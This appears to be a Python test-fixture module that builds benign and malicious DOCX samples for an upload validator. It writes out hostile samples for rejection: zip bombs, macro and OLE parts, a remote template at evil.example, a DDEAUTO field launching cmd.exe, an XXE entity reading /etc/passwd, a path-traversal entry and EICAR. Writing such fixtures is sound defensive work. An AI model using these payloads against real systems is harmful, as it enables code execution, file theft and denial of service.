"""DOCX and what passes itself off as one: bombs, macros, objects, fetching, entities, lies in the archive."""

import io
import struct
import zipfile
from collections.abc import Callable

from app.kernel.papers.word import MAIN_TYPE

WORDS = "Readable words"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES = (
    f'<?xml version="1.0"?><Types xmlns="{_PACKAGE}/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    f'<Override PartName="/word/document.xml" ContentType="{MAIN_TYPE}"/></Types>'
)
RELS = (
    f'<?xml version="1.0"?><Relationships xmlns="{_PACKAGE}/relationships">'
    f'<Relationship Id="rId1" Type="{_OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>'
)


def document(body: str = f"<w:p><w:r><w:t>{WORDS}</w:t></w:r></w:p>", head: str = "") -> str:
    return f'<?xml version="1.0"?>{head}<w:document xmlns:w="{_W}"><w:body>{body}</w:body></w:document>'


def docx(**parts: str | bytes) -> bytes:
    """A small good document; `parts` are added or put in place of its own, `__` in a name for `/`."""
    whole: dict[str, str | bytes] = {
        "[Content_Types].xml": TYPES, "_rels/.rels": RELS, "word/document.xml": document(),
    }  # fmt: skip
    whole |= {name.replace("__", "/"): body for name, body in parts.items()}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, body in whole.items():
            made.writestr(name, body)
    return out.getvalue()


def relation(kind: str, target: str, *, external: bool = True) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    told = f'<Relationship Id="r" Type="{_OFFICE}/{kind}" Target="{target}"{mode}/>'
    rels = f'<?xml version="1.0"?><Relationships xmlns="{_PACKAGE}/relationships">{told}</Relationships>'
    return docx(**{"word/_rels/document.xml.rels": rels})


def field(words: str) -> bytes:
    parts = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in (words[:3], words[3:]))
    return docx(**{"word/document.xml": document(f"<w:p>{parts}</w:p>")})


def lying_size() -> bytes:
    """The directory of the archive says that a part is smaller than it is."""
    good = docx(**{"word/styles.xml": "<a>" + "x" * 5000 + "</a>"})
    told = struct.pack("<I", len("<a>" + "x" * 5000 + "</a>"))
    return good.replace(told, struct.pack("<I", 10))


def many_parts() -> bytes:
    return docx(**{f"word/p{number}.xml": "<a/>" for number in range(3000)})


def bomb() -> bytes:
    return docx(**{"word/document.xml": b"<a>" + b" " * 200_000_000 + b"</a>"})


def repeated_name() -> bytes:
    return docx(**{"WORD/DOCUMENT.XML": document("<w:p/>")})


def nested() -> bytes:
    return docx(**{"word/media/inner.docx": bomb()})


_ENTITIES = '<!DOCTYPE a [<!ENTITY x "ha"><!ENTITY y "&x;&x;&x;&x;&x;&x;&x;&x;">]>'
_OUTSIDE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
_PLAIN_ZIP = {"hello.txt": b"hello"}


def plain_zip(parts: dict[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for name, body in (parts or _PLAIN_ZIP).items():
            made.writestr(name, body)
    return out.getvalue()


Maker = Callable[[], bytes]
KEPT: dict[str, Maker] = {
    "good.docx": docx,
    "with a link.docx": lambda: relation("hyperlink", "https://evil.example/"),
    "with an author.docx": lambda: docx(**{"docProps/core.xml": "<x>An author</x>"}),
    "docx called.pdf": docx,
}
REFUSED: dict[str, Maker] = {
    "bomb.docx": bomb,
    "three thousand parts.docx": many_parts,
    "macros.docx": lambda: docx(**{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
    "macros by type.docx": lambda: docx(
        **{"[Content_Types].xml": TYPES.replace(MAIN_TYPE, "application/vnd.ms-word.document.macroEnabled.main+xml")}
    ),
    "object.docx": lambda: docx(**{"word/embeddings/oleObject1.bin": b"MZ"}),
    "object by relation.docx": lambda: relation("oleObject", "media/x", external=False),
    "template elsewhere.docx": lambda: relation("attachedTemplate", "https://evil.example/t.dotm"),
    "picture elsewhere.docx": lambda: relation("image", "https://evil.example/pixel.png"),
    "share elsewhere.docx": lambda: relation("image", "file://evil/share/x.png"),
    "page inside.docx": lambda: relation("aFChunk", "x.html", external=False),
    "dde.docx": lambda: field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'),
    "include.docx": lambda: field('INCLUDEPICTURE "https://evil.example/x.png"'),
    "entities.docx": lambda: docx(**{"word/document.xml": document("<w:p>&y;</w:p>", _ENTITIES)}),
    "outside entity.docx": lambda: docx(**{"word/document.xml": document("<w:p>&x;</w:p>", _OUTSIDE)}),
    "no xml.docx": lambda: docx(**{"word/document.xml": b"\0\1\2 not xml"}),
    "repeated name.docx": repeated_name,
    "outward name.docx": lambda: docx(**{"../../evil.xml": "<a/>"}),
    "nested bomb.docx": nested,
    "workbook.docx": lambda: plain_zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<a/>"}),
    "archive.docx": plain_zip,
    "cut short.docx": lambda: docx()[:200],
    "old.doc": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "rich text.docx": lambda: b"{\\rtf1 hello}",
    "gzip.docx": lambda: b"\x1f\x8b\x08" + b"\0" * 60,
    "words.txt": lambda: b"just words",
    "eicar.docx": lambda: b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-" + b"TEST-FILE!$H+H*",
}
EITHER: dict[str, Maker] = {"lying size.docx": lying_size}
